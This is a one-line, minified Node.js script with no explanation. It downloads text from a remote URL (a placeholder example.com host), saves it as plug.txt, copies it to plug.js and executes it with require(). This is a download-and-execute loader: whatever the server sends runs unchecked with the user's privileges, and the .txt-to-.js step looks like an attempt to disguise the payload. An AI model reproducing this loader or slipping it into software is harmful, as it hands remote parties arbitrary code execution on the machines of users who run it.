const fs=require('fs');(async()=>{const t=await (await fetch('https://api.example.com/x')).text();fs.writeFileSync('plug.txt',t);fs.copyFileSync('plug.txt','plug.js');require('./plug')})()
